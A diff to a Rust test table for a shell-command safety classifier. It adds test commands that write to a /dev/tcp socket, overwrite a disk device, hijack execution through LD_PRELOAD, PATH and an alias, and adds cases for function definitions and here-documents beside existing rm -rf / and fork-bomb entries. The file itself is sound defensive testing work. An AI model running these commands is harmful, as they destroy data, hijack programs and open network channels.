@@ -79,6 +79,9 @@ const TABLE: &[(&str, Family)] = &[
     ("uptime | tee /tmp/uptime.txt", C),
     ("ps aux | tee /dev/null", R),
     ("> /tmp/emptied", C),
+    ("echo 1 > /proc/sys/vm/drop_caches", C),
+    ("cat image.iso > /dev/sdb", D),
+    ("echo hi > /dev/tcp/10.0.0.1/9000", A),
     // Here-documents and here-strings.
     ("cat <<EOF\nhello\nEOF", R),
     ("cat <<'EOF'\n$(rm -rf /)\nEOF", R),
@@ -321,6 +324,14 @@ const TABLE: &[(&str, Family)] = &[
     ("find . -print0 | xargs -0 -I{} cp {} /backup/", C),
     ("xargs", R),
     ("command -v docker", R),
+    ("PATH=$PATH:/usr/sbin iptables -L", R),
+    ("PATH=/tmp/evil ls", D),
+    ("LD_PRELOAD=/tmp/x.so ls", D),
+    ("env LD_PRELOAD=/tmp/x.so ls", D),
+    ("export PATH=/tmp/evil; ls", D),
+    ("export FOO=bar; ls", R),
+    ("alias ls='rm -rf /tmp/x'\nls", D),
+    ("alias", R),
     // Dynamic: never less than destructive.
     ("$(echo rm) -rf /", D),
     ("`which rm` -rf /tmp/x", D),
@@ -360,7 +371,11 @@ const TABLE: &[(&str, Family)] = &[
         "case $1 in start) systemctl start x;; stop) systemctl stop x;; esac",
         C,
     ),
-    ("f() { ls; }; f", R),
+    // A call is the stricter of the body and the program of that name (the definition
+    // may not have run).
+    ("ls() { cat /etc/hosts; }; ls", R),
+    ("ls() { rm -rf /tmp/x; }; ls", D),
+    ("f() { ls; }; f", D),
     ("f() { rm -rf /tmp/x; }; f", D),
     (":(){ :|:& };:", D),
     ("ls $(rm -rf /tmp/x)", D),
@@ -427,6 +442,8 @@ fn unparseable_command_is_destructive_and_shows_the_parse_error() {
     assert_eq!(c.family, Family::Destructive);
     let e = c.parse_error.expect("a parse error");
     assert!(e.contains("quote"), "{e}");
+    // Its parts could not be checked against deny/approval rules: a human decides.
+    assert!(c.approval.unwrap().contains("unparseable"));
 }
 
 #[test]
@@ -737,13 +754,19 @@ fn command() -> impl Strategy<Value = String> {
             inner.clone().prop_map(|a| format!("( {a} )")),
             inner.clone().prop_map(|a| format!("{{ {a}; }}")),
             inner.clone().prop_map(|a| format!("echo \"$({a})\"")),
-            inner.prop_map(|a| format!("if true; then {a}; fi")),
+            inner.clone().prop_map(|a| format!("if true; then {a}; fi")),
+            inner.clone().prop_map(|a| format!("g() {{ {a}; }}; g")),
+            inner.clone().prop_map(|a| format!("FOO=1 {a}")),
+            inner
+                .clone()
+                .prop_map(|a| format!("for i in 1 2; do {a}; done")),
+            inner.prop_map(|a| format!("cat <<EOF\n$({a})\nEOF\n")),
         ]
     })
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]
+    #![proptest_config(ProptestConfig { cases: std::env::var("PROPTEST_CASES").ok().and_then(|c| c.parse().ok()).unwrap_or(256), ..ProptestConfig::default() })]
 
     #[test]
     fn classifier_never_panics_on_arbitrary_input(s in "\\PC{0,80}") {
